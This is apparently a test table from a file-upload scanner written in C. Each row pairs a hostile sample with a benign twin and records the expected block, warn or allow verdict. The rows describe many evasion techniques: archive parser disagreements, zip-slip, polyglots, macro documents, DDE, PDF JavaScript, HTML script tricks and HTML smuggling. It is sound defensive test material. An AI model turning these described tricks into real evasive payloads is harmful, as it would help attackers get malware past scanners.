	{"eicar.com", b_eicar, "", "text", "sig.eicar type.mismatch", "block", "the EICAR test file"},
	{"logo.svg", b_svg_script, "--accept image/*", "svg", "html.script", "block",
	 "an SVG image carrying <script>"},
	/* Benign files stay quiet. */
	{"notes.txt", b_text, "", "text", "", "allow", "plain text"},
	{"resume.txt", b_utf8, "", "text", "", "allow", "UTF-8 text with accents"},
	{"scores.csv", b_csv, "--accept .csv", "csv", "", "allow", "a CSV accepted as .csv"},
	{"plain.csv", b_text, "--accept .csv", "text", "", "allow", "text with no commas still passes a .csv accept"},
	{"data.json", b_json, "", "json", "", "allow", "JSON"},
	{"logo-clean.svg", b_svg, "--accept image/*", "svg", "", "allow", "a script-free SVG"},
	{"page.html", b_html, "", "html", "", "allow", "script-free HTML"},
	{"picture.png", b_png, "--accept image/png", "png", "", "allow", "a PNG where PNGs are accepted"},
	{"letter.docx", b_docx, "--accept .docx", "docx", "", "allow", "a DOCX where DOCX is accepted"},
	{"bundle.zip", b_docx, "", "docx", "", "allow", "a DOCX named .zip: a DOCX is a ZIP"},
	{"pkg.deb", b_deb, "", "deb", "", "allow", "a Debian package"},
	{"archive.tar", b_tar, "", "tar", "", "allow", "a tar archive"},
	{"README.md", b_md, "", "markdown", "", "allow", "Markdown"},
	/* Executables and scripts. */
	{"tool.exe", b_pe64_exe, "", "pe64-exe", "exec.native", "block", "a PE32+ program named .exe"},
	{"helper.dll", b_pe32_dll, "", "pe32-dll", "exec.native", "block", "a DLL"},
	{"driver.sys", b_pe64_sys, "", "pe64-driver", "exec.native", "block", "a kernel driver"},
	{"a.out", b_elf_exec, "", "elf-exec", "exec.native", "block", "an ELF executable"},
	{"libx.so", b_elf_so, "", "elf-so", "exec.native", "block", "an ELF shared object"},
	{"app", b_macho, "", "macho", "exec.native", "block", "a Mach-O program"},
	{"old.com", b_dos, "", "dos-mz", "exec.native", "block", "an MS-DOS program"},
	{"install.sh", b_sh, "", "shell", "exec.script", "block", "a shell script"},
	{"tool.py", b_py_shebang, "", "python", "exec.script", "block", "a Python script with #!"},
	{"lib.py", b_py, "", "python", "exec.script", "block",
	 "a .py runs in Python on a double-click where Python is installed (Outlook blocks .py)"},
	{"setup-py.bat", r_bat_python, "", "python", "exec.script type.mismatch", "block",
	 "a .bat whose lines read as Python: cmd.exe runs it all the same"},
	{"setup.bat.txt", r_note, "", "text", "", "allow", "the twin: prose whose last extension is .txt"},
	{"invoice.hta", r_bat_python, "", "python", "exec.script type.mismatch", "block",
	 "a top-level input named .hta: mshta runs it, whatever it looks like"},
	{"nul-name.zip", r_zip_nul_name, "", "zip", "exec.script path.control", "block",
	 "run.bat\\0.txt: C extractors write run.bat"},
	{"nul-twin.zip", r_zip_nul_twin, "", "zip", "", "allow", "the twin: run.txt"},
	{"trailing-bat.zip", r_zip_trailing_bat, "", "zip", "exec.script path.trailing", "block",
	 "run.bat. is run.bat on Windows"},
	{"run.ps1", b_ps1, "", "powershell", "exec.script", "block", "PowerShell"},
	{"run16.ps1", b_utf16_ps1, "", "powershell", "exec.script", "block", "UTF-16 PowerShell"},
	{"setup.bat", b_bat, "", "batch", "exec.script", "block", "a batch file"},
	{"invoice.vbs", b_vbs, "", "vbscript", "exec.script", "block", "VBScript"},
	{"invoice.js", b_js, "", "javascript", "exec.script", "block", "JScript run by Windows Script Host"},
	{"invoice.jse", b_jse, "", "wsh-encoded", "exec.script", "block", "an encoded JScript"},
	{"update.hta", b_hta, "", "hta", "exec.script", "block", "an HTML application"},
	{"job.wsf", b_wsf, "", "wsf", "exec.script", "block", "a Windows Script File"},
	{"shell.php", b_php, "", "php", "exec.script", "block", "a PHP web shell"},
	{"invoice.lnk", b_lnk, "", "lnk", "exec.shortcut", "block", "a Windows shortcut"},
	{"portal.url", b_url, "", "url", "exec.shortcut", "block", "an Internet shortcut to a file share"},
	{"desktop.scf", b_scf, "", "scf", "exec.shortcut", "block", "an Explorer command file"},
	{"invoice.desktop", b_desktop, "", "desktop", "exec.shortcut", "block", "a Linux desktop entry"},
	{"docs.library-ms", b_libms, "", "library-ms", "exec.shortcut", "block", "a Windows library description"},
	/* Disguises. */
	{"cv.docx", b_pe64_dll, "", "pe64-dll", "exec.native type.mismatch", "block", "a DLL named as a CV"},
	{"notes.txt.lnk", b_lnk, "", "lnk", "exec.shortcut", "block", "a shortcut with a double extension"},
	{"avatar.png", b_html_script, "", "html", "html.script type.mismatch", "block", "HTML posing as an image"},
	{"photo.gif", b_jpeg_php, "", "jpeg", "exec.script type.mismatch type.polyglot", "block",
	 "a JPEG carrying PHP, named .gif"},
	{"photo2.jpg", b_jpeg_php, "", "jpeg", "exec.script type.polyglot", "block", "a JPEG whose comment holds PHP code"},
	{"doc.pdf", b_pdf_zip, "", "pdf", "container.prepended exec.script type.polyglot", "block",
	 "a PDF that is also a ZIP holding a .js: the ZIP is walked too"},
	{"image.png", b_png_zip, "", "png", "container.prepended type.polyglot", "warn", "a PNG with a ZIP appended"},
	{"greeting.txt", b_php_upper, "", "php", "exec.script type.mismatch", "block",
	 "<?PHP in capitals: PHP's opening tag is case-insensitive"},
	{"welcome.txt", b_php_echo, "", "php", "exec.script type.mismatch", "block", "the short echo tag <?= runs code"},
	{"question.txt", n_php_tag, "", "text", "", "allow", "the twin: \"<?\" followed by prose"},
	{"report.sh", b_sh_pdf_comment, "", "shell", "exec.script", "block",
	 "a script mentioning %PDF- in a comment: the #! line decides, it is a script"},
	{"short-lines.txt", n_pyc, "--accept text/plain", "text", "", "allow",
	 "two letters and a CRLF open the file: text, not Python bytecode (a text-only --accept let it through)"},
	{"module.pyc", b_pyc, "", "pyc", "exec.script", "block", "Python 3.11 bytecode: the full header identifies it, and it runs"},
	{"upload.txt", b_svg_onload, "--accept text/plain", "svg", "html.script type.disallowed type.mismatch",
	 "block", "an SVG with an onload handler sent as text"},
	{"link.svg", b_svg_jsurl, "", "svg", "html.script", "block", "an entity-encoded javascript: URL"},
	{"data.csv", b_ps1, "--declared-type text/csv", "powershell", "exec.script type.mismatch", "block",
	 "PowerShell declared as text/csv"},
	{"report.pdf.exe", b_pdf, "", "pdf", "type.mismatch", "allow", "a PDF named .exe is merely mislabelled"},
	{"almost-eicar.txt", n_eicar, "", "text", "", "allow", "one character off the EICAR string"},
	/* Policy changes severities. */
	{"photo-policy.jpg", b_png, "--severity type.mismatch=high", "png", "type.mismatch", "block",
	 "a policy can make any id block"},
	{"tool-policy.exe", b_pe64_exe, "--severity exec.*=low", "pe64-exe", "exec.native", "allow",
	 "a policy prefix can lower a family"},
	/* Archives: every name judged as every platform reads it; each hostile case has a benign twin. */
	{"slip.zip", a_zip_slip, "", "zip", "path.traversal", "block", "zip-slip"},
	{"slip-win.zip", a_zip_slip_win, "", "zip", "path.traversal", "block", "zip-slip with backslashes"},
	{"benign-names.zip", a_zip_benign, "", "zip", "", "allow", "a..b.txt, ./x/./y, résumé.txt, .hidden"},
	{"name-mismatch.zip", a_zip_mismatch, "", "zip", "path.traversal zip.name-mismatch", "block",
	 "local header says ../a.txt, central directory safe.txt"},
	{"zipcrypto.zip", a_zip_zipcrypto, "", "zip", "container.encrypted container.weak-crypto", "warn",
	 "legacy ZipCrypto"},
	{"aes.zip", a_zip_aes, "", "zip", "container.encrypted", "warn", "AES-encrypted entry"},
	{"symlink-escape.zip", a_zip_symlink_escape, "", "zip", "link.escape", "block", "a symlink out of the folder"},
	{"symlink-ok.zip", a_zip_symlink_ok, "", "zip", "", "allow", "an in-tree relative symlink"},
	{"link-through.zip", a_zip_link_through, "", "zip", "link.escape link.through", "block",
	 "a symlink to /etc, then a file written through it"},
	{"invoice.zip", a_zip_js, "", "zip", "exec.script", "block", "a .js entry: Windows runs it by its name"},
	{"eicar.zip", a_zip_eicar_deflate, "", "zip", "sig.eicar type.mismatch", "block", "EICAR, deflated, inside"},
	{"collision.zip", a_zip_collision, "", "zip", "path.collision", "warn", "Readme.txt and README.TXT"},
	{"ads.zip", a_zip_ads, "", "zip", "path.ads type.mismatch", "block", "an NTFS stream name in a ZIP"},
	{"device.zip", a_zip_device, "", "zip", "path.device", "block", "aux.txt opens a device on Windows"},
	{"bidi.zip", a_zip_bidi, "", "zip", "path.bidi type.mismatch", "block", "RTLO extension spoofing"},
	{"setuid.zip", a_zip_setuid, "", "zip", "entry.setid", "block", "a setuid entry"},
	{"fifo.zip", a_zip_fifo, "", "zip", "entry.special", "block", "a FIFO entry"},
	/* Readings real extractors disagree on (readings.c): each hostile sample with its twin. */
	{"fake-eocd.zip", r_zip_fake_eocd, "", "zip", "container.corrupt path.traversal sig.eicar type.mismatch", "block",
	 "a fake empty end record hides EICAR and a traversal from Info-ZIP; the local headers are judged"},
	{"fake-eocd-twin.zip", r_zip_fake_eocd_twin, "", "zip", "container.corrupt", "warn", "the same fake record over a note"},
	{"hidden-local.zip", r_zip_hidden_local, "", "zip", "container.corrupt container.prepended exec.native", "block",
	 "a program in a local header no directory lists: streaming readers extract it"},
	{"descriptor.zip", r_zip_descriptor, "", "zip", "", "allow", "sizes in data descriptors: an ordinary ZIP"},
	{"method.zip", r_zip_method, "", "zip", "container.corrupt sig.eicar", "block",
	 "the directory says stored, the local header deflated: the inflated EICAR is judged"},
	{"method-twin.zip", r_zip_method_twin, "", "zip", "container.corrupt type.mismatch", "warn", "the same disagreement over a note"},
	{"symlink-bat.zip", r_zip_symlink_bat, "", "zip", "exec.script", "block",
	 "a symlink named run.bat whose data is a batch script: Python and Windows write the script"},
	{"dir-data.zip", r_zip_dir_data, "", "zip", "exec.native", "block",
	 "a Unix directory without a slash carrying a program: Python writes the program"},
	{"concat.zip", r_zip_concat, "", "zip", "container.corrupt container.prepended path.traversal", "block",
	 "two archives end to end: the first, which only a streaming reader sees, holds a traversal"},
	{"concat-twin.zip", r_zip_concat_twin, "", "zip", "", "allow", "one archive of the same two notes"},
	{"nested-stored.zip", r_zip_nested_stored, "", "zip", "", "allow",
	 "a ZIP holding a stored ZIP: the inner end record is content, not a second directory"},
	{"nested-stored-evil.zip", r_zip_nested_stored_evil, "", "zip", "path.traversal", "block",
	 "the same with a traversal inside the inner ZIP: judged where it is"},
	{"stored-outer-dir.zip", r_zip_stored_outer_dir, "", "zip", "container.corrupt path.traversal", "block",
	 "a stored entry holding an end record in the outer file's frame: a reader weighing end records lists a traversal"},
	{"first-dir.zip", r_zip_first_dir, "", "zip", "container.corrupt container.prepended exec.script", "block",
	 "the first of two archives names its entry run.bat in its directory: a reader taking the first end record writes it"},
	{"first-dir-twin.zip", r_zip_first_dir_twin, "", "zip", "container.corrupt container.prepended", "warn",
	 "the twin: the first directory agrees with its local header"},
	{"cp437-yen.zip", r_zip_cp437_yen, "", "zip", "path.bestfit", "block",
	 "byte 0x9D without the UTF-8 flag: CP437 reads a yen sign, which Windows code page 932 reads as a backslash"},
	{"after-end.tar", r_tar_after_end, "", "tar", "container.corrupt container.trailing exec.script path.traversal", "block",
	 "a script behind the end marker: GNU tar --ignore-zeros extracts it"},
	{"padded.tar", r_tar_padded, "", "tar", "", "allow", "the twin: zero blocks to 10 KiB, as tar writes"},
	{"resync.tar", r_tar_resync, "", "tar", "container.corrupt exec.native", "block",
	 "a damaged header, then a program: GNU tar skips to the next header and extracts it"},
	{"resync-twin.tar", r_tar_resync_twin, "", "tar", "container.corrupt", "warn", "the twin: the same damage before a note"},
	{"link-size.tar", r_tar_link_size, "", "tar", "container.corrupt exec.script path.traversal", "block",
	 "a symlink whose size covers a hidden entry: readers that give links no data extract it"},
	{"link-twin.tar", r_tar_link_twin, "", "tar", "", "allow", "the twin: the same link with no size"},
	{"pax-gnu.tar", r_tar_pax_gnu, "", "tar-gnu", "path.traversal", "block",
	 "a GNU long name and a pax path disagree: Python takes the first, the others pax"},
	{"pax-gnu-twin.tar", r_tar_pax_gnu_twin, "", "tar-gnu", "", "allow", "the twin: both names harmless"},
	{"gnu-prefix.tar", r_tar_gnu_prefix, "", "tar-gnu", "path.traversal", "block",
	 "a prefix under the GNU magic: some readers join it, others do not"},
	{"gnu-prefix-twin.tar", r_tar_gnu_prefix_twin, "", "tar-gnu", "", "allow", "the twin: a harmless prefix"},
	{"report.txt.gz", r_gz_fname, "", "gzip", "exec.script", "block",
	 "a gzip whose stored name is run.bat: gunzip -N and 7-Zip write a batch file"},
	{"notes.txt.gz", r_gz_fname_twin, "", "gzip", "", "allow", "the twin: the stored name is report.txt"},
	{"later-link.tar", r_tar_later_link, "", "tar", "link.escape", "block",
	 "a symlink that leads out only once a later symlink exists: bsdtar extracts both"},
	{"later-link-twin.tar", r_tar_later_link_twin, "", "tar", "", "allow", "the twin: it stays inside either way"},
	{"hardlink-symlink.tar", r_tar_hardlink_symlink, "", "tar", "link.escape", "block",
	 "a hard link to a symlink: the same target read from another folder leads out"},
	{"hardlink-file.tar", r_tar_hardlink_file, "", "tar", "", "allow", "the twin: a hard link to a file"},
	{"sparse-elf.tar", r_tar_sparse_elf, "", "tar-pax", "exec.native", "block",
	 "a pax sparse 1.0 entry whose packed data opens with the map: the rebuilt file is an ELF program"},
	{"sparse-note.tar", r_tar_sparse_note, "", "tar-pax", "", "allow", "the twin: the rebuilt file is a note"},
	{"continued.tar", r_tar_gnu_continued, "", "tar-gnu", "exec.script", "block",
	 "a GNU continuation header holding a script: Python and bsdtar write it as a file"},
	{"label.tar", r_tar_gnu_label, "", "tar-gnu", "", "allow", "the twin: a GNU volume label and a note"},
	{"solaris-x.tar", r_tar_solaris_x, "", "tar", "path.traversal", "block",
	 "a Solaris 'X' extended header renames the next entry ../../.profile"},
	{"solaris-x-twin.tar", r_tar_solaris_x_twin, "", "tar", "", "allow", "the twin: it renames it docs/readme.txt"},
	{"attachment.pdf", r_pdf_zip, "", "pdf", "container.corrupt container.prepended exec.script", "block",
	 "a PDF holding a ZIP without its end record: 7-Zip finds the local header and writes run.bat"},
	{"attachment-twin.pdf", r_pdf_zip_twin, "", "pdf", "container.corrupt container.prepended", "warn",
	 "the twin: the ZIP inside holds a note"},
	{"local-upath.zip", r_zip_local_upath, "", "zip", "exec.script zip.name-mismatch", "block",
	 "a Unicode path only in the local header says notes.bat: bsdtar writes that, Info-ZIP notes.txt"},
	{"local-upath-twin.zip", r_zip_local_upath_twin, "", "zip", "", "allow",
	 "the twin: the local Unicode path agrees"},
	{"octal.tar", r_tar_octal, "", "tar", "container.corrupt exec.script", "block",
	 "a size field with a byte after its digits: bsdtar reads the digits and extracts the script"},
	{"octal-twin.tar", r_tar_octal_twin, "", "tar", "container.corrupt", "warn", "the twin: the same field over a note"},
	{"pax-global.tar", r_tar_pax_global, "", "tar-pax", "path.traversal", "block",
	 "a pax global header's path: GNU tar and Python write the next entry to ../../evil.txt"},
	{"pax-global-twin.tar", r_tar_pax_global_twin, "", "tar-pax", "", "allow", "the twin: the global path stays inside"},
	{"dumpdir.tar", r_tar_dumpdir, "", "tar-gnu", "exec.script", "block",
	 "a GNU dumpdir named run.bat holding a batch script: Python writes it as a file"},
	{"dumpdir-twin.tar", r_tar_dumpdir_twin, "", "tar-gnu", "", "allow", "the twin: a dumpdir as GNU tar writes it"},
	{"sparse-order.tar", r_tar_sparse_order, "", "tar-gnu", "exec.native", "block",
	 "an old GNU sparse map out of order: the packed data opens with filler, the rebuilt file with an ELF header"},
	{"sparse-order-twin.tar", r_tar_sparse_order_twin, "", "tar-gnu", "", "allow",
	 "the twin: the same map over a note"},
	{"long-link.tar", r_tar_long_link, "", "tar-gnu", "link.escape", "block",
	 "a GNU long link name ('K') leads the symlink out; the header's own link field says \"short\""},
	{"long-link-twin.tar", r_tar_long_link_twin, "", "tar-gnu", "", "allow", "the twin: the long link stays inside"},
	{"octal-hiding.tar", r_tar_octal_hiding, "", "tar", "container.corrupt exec.script type.mismatch", "block",
	 "a malformed size covering only the next header: GNU tar skips to that header and extracts the script"},
	{"octal-hiding-twin.tar", r_tar_octal_hiding_twin, "", "tar", "container.corrupt type.mismatch", "warn",
	 "the twin: the entry behind is a note"},
	{"bad-first.tar", r_tar_bad_first, "", "tar", "container.corrupt exec.script path.traversal", "block",
	 "the first header damaged: GNU tar skips to the next and extracts a script out of the folder"},
	{"quick-open.rar", a_rar5_quick_open, "", "rar5", "container.corrupt exec.script", "block",
	 "the quick-open cache names the file run.bat: WinRAR lists it from the cache, extracts notes.txt"},
	{"quick-open-twin.rar", a_rar5_quick_open_twin, "", "rar5", "", "allow",
	 "the twin: the cache holds the header as it is"},
	{"eicar-set.part1.rar", a_rar5_vol1, "", "rar5", "container.corrupt", "warn",
	 "the first volume alone: half of a split file, which continues in a volume not given"},
	{"eicar-set.part2.rar", a_rar5_vol2, "", "rar5", "container.corrupt", "warn",
	 "the second volume alone: the other half; given together, the volumes hold EICAR"},
	{"note-set.part1.rar", a_rar5_vol1_twin, "", "rar5", "container.corrupt", "warn",
	 "the twin set's first volume alone: half of a note"},
	{"note-set.part2.rar", a_rar5_vol2_twin, "", "rar5", "container.corrupt", "warn",
	 "the twin set's second volume alone"},
	{"joliet-ext.iso", r_iso_joliet_ext, "", "iso9660", "exec.script type.mismatch", "block",
	 "Rock Ridge says notes.txt, Joliet notes.bat: Windows runs what Linux lists as a note"},
	{"names-twin.iso", r_iso_names_twin, "", "iso9660", "", "allow", "the twin: the three name spaces agree"},
	{"primary-ext.iso", r_iso_primary_ext, "", "iso9660", "exec.script type.mismatch", "block",
	 "the primary name is RUN.BAT;1 under readme.txt: a reader without extensions writes a batch file"},
	{"joliet-only.iso", r_iso_joliet_only, "", "iso9660", "exec.native", "block",
	 "a program only the Joliet tree lists: Linux listers never show it"},
	{"joliet-only-twin.iso", r_iso_joliet_only_twin, "", "iso9660", "", "allow",
	 "the twin: the Joliet-only file is a note"},
	/* Documents that run code (issue 9). */
	{"invoice.doc", d_doc_macro, "", "doc", "doc.macro", "block", "a Word document whose VBA runs Shell on AutoOpen"},
	{"stomped.doc", d_doc_stomped, "", "doc", "doc.macro", "block",
	 "VBA stomping: the source is empty, the compiled code names AutoOpen and Shell"},
	{"baddir.doc", d_doc_baddir, "", "doc", "doc.macro", "block",
	 "a VBA project whose dir stream cannot be read is still a project"},
	{"nodir.doc", d_doc_nodir, "", "doc", "", "allow", "a VBA storage without a dir stream: nothing Office would run"},
	{"letter.doc", d_doc_plain, "", "doc", "", "allow", "a plain Word 97-2003 document"},
	{"report.docx", d_docx_hidden_vba, "", "docm", "doc.macro", "block",
	 "a .docx whose content types say plain secretly carrying word/vbaProject.bin"},
	{"memo.docm", d_docm_novba, "", "docx", "", "allow", "a macro-enabled content type with no project"},
	{"package.doc", d_doc_package_exe, "", "doc", "doc.embedded exec.native", "block",
	 "an OLE Package holding a program named invoice.pdf.exe: the program is scanned, under the Packager's names"},
	{"package-note.doc", d_doc_package_txt, "", "doc", "doc.embedded", "allow", "an OLE Package holding a note"},
	{"budget.xls", d_xls_xlm_hidden, "", "xls", "doc.macro", "block", "a very hidden Excel 4.0 macro sheet"},
	{"budget-twin.xls", d_xls_hidden_sheet, "", "xls", "", "allow", "a hidden worksheet is not a macro sheet"},
	{"locked.xls", d_xls_encrypted, "", "xls", "container.encrypted", "warn", "an RC4-encrypted workbook"},
	{"template.docx", o_remote_template, "", "docx", "doc.external-ref", "block",
	 "a remote attachedTemplate: Word fetches it on open"},
	{"normal.docx", o_local_template, "", "docx", "doc.external-ref", "allow",
	 "the local template path Word records for any document (low)"},
	{"link.docx", o_hyperlink, "", "docx", "", "allow", "an external hyperlink is not fetched on open"},
	{"dde.docx", o_dde, "", "docx", "doc.dde", "block", "DDEAUTO split across runs, under another prefix"},
	{"fields.docx", o_fields, "", "docx", "", "allow", "PAGE and HYPERLINK fields"},
	{"picture.docx", o_includepicture, "", "docx", "doc.external-ref", "block",
	 "INCLUDEPICTURE from a remote server"},
	{"chart.docx", o_embedded_chart, "", "docx", "doc.embedded", "allow", "an embedded Excel chart"},
	{"xlm.xlsx", o_xlm_part, "", "xlsx", "doc.macro", "block", "an Excel 4.0 macro sheet part"},
	{"dde.xlsx", o_xlsx_dde, "", "xlsx", "doc.dde", "block", "an Excel external link that is DDE to cmd"},
	{"basic.odt", o_odt_basic, "", "odt", "doc.macro", "block", "an ODF Basic library"},
	{"plain.odt", o_odt_plain, "", "odt", "", "allow", "an ODF text without scripts"},
	{"invoice.rtf", r_package_exe, "", "rtf", "doc.embedded exec.native", "block",
	 "an RTF carrying an OLE Package carrying a program"},
	{"scan.doc", r_package_hidden, "", "rtf", "doc.embedded exec.native", "block",
	 "the same under a {\\rt header, hex broken up, \\bin, \\objupdate, named .doc"},
	{"equation.rtf", r_equation, "", "rtf", "doc.embedded", "block", "an Equation Editor object"},
	{"dde.rtf", r_dde, "", "rtf", "doc.dde", "block", "DDEAUTO in an RTF field"},
	{"report.rtf", r_plain, "", "rtf", "", "allow", "an RTF with a picture and a hyperlink"},
	{"statement.pdf", f_objstm_js, "", "pdf", "doc.pdf-active", "block",
	 "/OpenAction << /S /J#61vaScript >> inside a compressed object stream"},
	{"brochure.pdf", f_benign, "", "pdf", "doc.embedded", "allow",
	 "links, a form, a GoTo open action and a text attachment"},
	{"launch.pdf", f_launch, "", "pdf", "doc.pdf-active", "block", "a /Launch open action"},
	{"attached.pdf", f_attached_exe, "", "pdf", "doc.embedded exec.native", "block", "a program attached to a PDF"},
	{"tracker.pdf", f_auto_uri, "", "pdf", "doc.pdf-active", "allow", "an open action that opens a link (low)"},
	{"locked.pdf", f_encrypted, "", "pdf", "container.encrypted", "warn", "an encrypted PDF"},
	{"jbig.pdf", f_undecoded_attachment, "", "pdf", "container.uninspected", "block",
	 "an attachment behind a filter not decoded here: not judged clean"},
	{"open-locked.pdf", f_encrypted_empty_js, "", "pdf", "doc.pdf-active", "block",
	 "RC4-encrypted with an empty user password: decrypted, its object stream's JavaScript found"},
	{"locked-js.pdf", f_encrypted_pw_js, "", "pdf", "container.encrypted", "warn",
	 "the same with a user password: nothing can be read without it"},
	{"CV_2025.docx.lnk", l_powershell, "", "lnk", "exec.shortcut", "block",
	 "a link that starts PowerShell with an encoded command, under Word's icon"},
	{"notes.one", n_one_hta, "", "onenote", "doc.embedded exec.script", "block", "an HTA embedded in a OneNote section"},
	{"minutes.one", n_one_txt, "", "onenote", "doc.embedded", "allow", "a text file embedded in a OneNote section"},
	{"invoice.msg", d_msg_exe, "", "msg", "exec.native", "block", "an Outlook message carrying a program"},
	{"figures.msg", d_msg_txt, "", "msg", "", "allow", "an Outlook message carrying a note"},
	{"vbaProject.bin", d_vbaproject_bin, "", "ole", "doc.macro", "block",
	 "a VBA project as OOXML stores it: Document_Open, CreateObject, WScript.Shell, PowerShell"},
	/* Loaders, interpreters and second readings (issue 8). */
	{"template.txt", b_tmpl, "", "html", "", "allow",
	 "HTML only in later lines is not what a browser sniffs: a template keeps its text claim"},
	{"note.txt", b_tmpl_script, "", "html", "html.script type.mismatch", "block",
	 "the same template with a script: a page, and not the text it is named"},
	{"xhtml.html", b_xhtml_prolog, "", "xml", "", "allow", "XHTML after an XML declaration is XML, and a page as named"},
	{"update", b_elf_v0, "", "elf-exec", "exec.native", "block", "an ELF with EI_VERSION 0 runs"},
	{"update2", b_elf_class3, "", "elf-exec", "exec.native", "block", "an ELF with a class byte of 3 runs"},
	{"update3", n_elf, "", "unknown", "", "allow", "no class and no program header size: the loader refuses it"},
	{"tiny", b_pe_tiny, "", "pe32-exe", "exec.native", "block", "a PE header over the DOS header (e_lfanew 4)"},
	{"tiny2", n_pe_tiny, "", "unknown", "", "allow", "the same with a broken PE signature"},
	{"pixel.gif", b_gif_js, "", "gif", "exec.script type.polyglot", "block", "a GIF signature opening JavaScript"},
	{"wide.gif", b_gif_61, "", "gif", "", "allow", "a 61-pixel-wide GIF: '=' then a zero byte"},
	{"comment.gif", b_gif_comment_js, "", "gif", "exec.script type.polyglot", "block", "the GIF header in a JavaScript comment"},
	{"bitmap.bmp", b_bmp_js, "", "text", "exec.script type.mismatch type.polyglot", "block", "a BMP signature opening JavaScript"},
	{"club.txt", b_bmw, "", "text", "", "allow", "text that starts with BM"},
	{"page.pdf", b_html_pdf, "", "pdf", "html.script type.polyglot", "block", "a page with script ahead of a PDF"},
	{"tail.pdf", b_pdf_html, "", "pdf", "type.polyglot", "warn", "a script-free page behind a PDF"},
	{"tail-php.pdf", b_pdf_php, "", "pdf", "exec.script type.polyglot", "block", "PHP behind a PDF"},
	{"tail-twin.pdf", b_pdf_tail_twin, "", "pdf", "", "allow", "zero padding behind a PDF"},
	{"first-pdf.tar", b_tar_first_pdf, "", "tar", "", "allow", "a tar whose first member is a PDF is a tar"},
	{"last-docx.tar", b_tar_last_docx, "", "tar", "", "allow", "a DOCX that is a tar member is not a second reading"},
	{"then-docx.tar", b_tar_then_docx, "", "tar", "container.prepended container.trailing type.polyglot", "warn", "a DOCX after the tar's end is one"},
	{"binary-names.tar", b_tar_binary, "", "tar-pax", "", "allow", "hdrcharset=BINARY: the name is not UTF-8, nothing to check"},
	{"latin1-names.tar", b_tar_binary_twin, "", "tar-pax", "path.encoding", "warn", "a pax path must be UTF-8"},
	{"readme-centred.md", b_md_html, "--accept .md", "markdown", "", "allow", "a GitHub README opening with <p align=center>"},
	{"readme-script.md", b_md_script, "--accept .md", "markdown", "html.script", "block", "the HTML in a README still runs in a viewer"},
	{"install.md", b_md_code, "--accept .md", "markdown", "", "allow", "a README whose first lines are code blocks"},
	/* Pages as a browser reads them (pages.c). */
	{"comment-abrupt.html", p_comment_abrupt, "", "html", "html.script", "block", "<!--> ends a comment"},
	{"comment-abrupt-twin.html", p_comment_abrupt_twin, "", "html", "", "allow", "<!-- -> does not"},
	{"comment-bang.html", p_comment_bang, "", "html", "html.script", "block", "--!> ends a comment"},
	{"comment-bang-twin.html", p_comment_bang_twin, "", "html", "", "allow", "--! > does not"},
	{"ref-tab.html", p_ref_tab, "", "html", "html.script", "block", "&Tab; inside javascript: is dropped by the URL parser"},
	{"ref-tab-twin.html", p_ref_tab_twin, "", "html", "", "allow", "&amp; is not"},
	{"srcdoc.html", p_srcdoc, "", "html", "html.script", "block", "script in an iframe srcdoc"},
	{"srcdoc-twin.html", p_srcdoc_twin, "", "html", "", "allow", "a script-free srcdoc"},
	{"noscript.html", p_noscript, "", "html", "html.script", "block", "<noscript> is raw text: the title hides a live tag"},
	{"noscript-twin.html", p_noscript_twin, "", "html", "", "allow", "a plain <noscript> notice"},
	{"title-text.html", p_title_text, "", "html", "", "allow", "<script> inside <title> is text"},
	{"title-after.html", p_title_after, "", "html", "html.script", "block", "<script> after </title> runs"},
	{"svg-breakout.html", p_svg_breakout, "", "html", "html.script", "block", "<img> breaks out of SVG <style>"},
	{"style-text.html", p_style_text, "", "html", "", "allow", "HTML <style> is raw text"},
	{"invoice.html", p_text_first, "", "text", "html.script", "block", "a page that opens with text"},
	{"message.txt", p_text_first, "", "text", "html.script", "block", "HTML tags after a leading text"},
	{"invoice-twin.html", p_text_first_twin, "", "text", "", "allow", "the same page without script"},
	{"main.c", p_text_c, "", "c", "", "allow", "angle brackets that are not tags"},
	{"refresh.html", p_refresh, "", "html", "html.script", "block", "meta refresh to javascript:"},
	{"refresh-twin.html", p_refresh_twin, "", "html", "", "allow", "meta refresh to https:"},
	{"object-swf.html", p_object_swf, "", "html", "html.script", "block", "an <object> of Flash"},
	{"object-pdf.html", p_object_pdf, "", "html", "", "allow", "an <object> of a PDF"},
	{"iframe-data.html", p_iframe_data, "", "html", "html.script", "block", "an iframe of a data:text/html URL"},
	{"iframe-https.html", p_iframe_https, "", "html", "", "allow", "an iframe of an https: URL"},
	{"formaction.html", p_form_action, "", "html", "html.script", "block", "formaction with a blank-prefixed javascript:"},
	{"form-twin.html", p_form_twin, "", "html", "", "allow", "a form posting to the site"},
	{"animate.svg", p_svg_animate, "", "svg", "html.script", "block", "SVG <animate> writing javascript: into href"},
	{"animate-twin.svg", p_svg_animate_twin, "", "svg", "", "allow", "SVG <animate> of a width"},
	{"foreign.svg", p_svg_foreign, "", "svg", "html.script", "block", "HTML in <foreignObject> with a srcdoc handler"},
	{"foreign-twin.svg", p_svg_foreign_twin, "", "svg", "", "allow", "a caption in <foreignObject>"},
	{"ldjson.html", p_ldjson, "", "html", "", "allow", "a JSON-LD data block does not run"},
	{"jstype.html", p_jstype, "", "html", "html.script", "block", "text/javascript with parameters runs"},
	{"article.html", p_article, "", "html", "html.script", "block", "a saved article with inline analytics"},
	{"report.html", p_report, "", "html", "", "allow", "a static coverage report"},
	{"utf16-bom.html", p_utf16_bom, "", "html", "html.script", "block", "UTF-16LE with a BOM"},
	{"utf16-bom-twin.html", p_utf16_bom_twin, "", "html", "", "allow", "the same page without script"},
	{"utf16be.html", p_utf16be_nobom, "", "html", "html.script", "block", "UTF-16BE without a BOM"},
	{"utf16be-twin.html", p_utf16be_nobom_twin, "", "html", "", "allow", "the same page without script"},
	{"iso2022jp.html", p_iso2022jp, "", "html", "html.script", "block", "an ISO-2022-JP escape swallows a quote"},
	{"iso2022jp-twin.html", p_iso2022jp_twin, "", "html", "", "allow", "the same bytes without the escapes"},
	{"smuggle.html", p_smuggle_blob, "", "html", "exec.native html.script html.smuggling", "block",
	 "a page that builds a program from base64: the payload is scanned"},
	{"smuggle-split.html", p_smuggle_split, "", "html", "exec.native html.script html.smuggling", "block",
	 "the payload split across joined literals"},
	{"smuggle-twin.html", p_smuggle_twin, "", "html", "html.script", "block", "script that builds no file"},
	{"data-download.html", p_data_download, "", "html", "exec.native html.smuggling", "block",
	 "<a download> of a data: URL holding a program"},
	{"data-download-twin.html", p_data_download_twin, "", "html", "", "allow", "<a download> of a site URL"},
	{"docs.zip", p_zip_page, "", "zip", "html.script", "block", "a page in an archive that opens with text"},
